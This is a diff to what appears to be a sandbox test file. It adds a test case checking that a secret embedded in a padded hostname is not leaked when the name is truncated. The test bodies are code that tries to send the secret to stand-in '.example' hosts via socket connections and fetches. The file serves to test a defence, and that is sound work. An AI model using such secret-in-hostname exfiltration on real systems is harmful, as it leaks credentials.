@@ -13,6 +13,9 @@ BODIES = (
     "import socket\ntry:\n    socket.create_connection((ctx.secret('OWN') + '.example', 443))\nexcept PermissionError:\n    pass",
     "try:\n    ctx.fetch(f\"https://{ctx.secret('OWN').upper()}.example/\")\nexcept FetchError:\n    pass",
 )
+_AT_ITS_END = "try:\n    ctx.fetch(f\"https://{'a' * 243}{ctx.secret('OWN')}/\")\nexcept FetchError:\n    pass"
+"""So far behind that a name which is cut to what a name may have would be cut within the secret."""
+
 _GRANTS = Permissions(network=frozenset({NetworkAsk("granted.example", (443,), "public")}), secrets=frozenset({"OWN"}))
 
 
@@ -21,6 +24,7 @@ def in_the_jail(folder: Path) -> None:
         heard = reached(body, secrets(folder, OWN=None), _GRANTS)
         assert "[secret OWN].example:443" in heard
         assert VALUE not in heard
+    assert VALUE[:8] not in reached(_AT_ITS_END, secrets(folder, OWN=None), _GRANTS)
 
 
 def without_the_wall(folder: Path) -> None:
